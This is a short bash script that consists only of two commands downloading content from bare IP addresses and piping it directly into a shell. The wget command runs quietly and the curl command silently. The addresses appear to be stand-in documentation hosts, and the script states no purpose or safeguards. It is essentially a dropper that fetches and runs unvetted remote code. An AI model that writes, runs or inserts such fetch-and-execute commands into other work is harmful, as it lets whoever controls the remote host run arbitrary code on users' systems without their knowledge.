#!/bin/bash
wget -qO- http://198.51.100.7/x \
  | sh
curl -fsSL https://203.0.113.9/i | sh -e
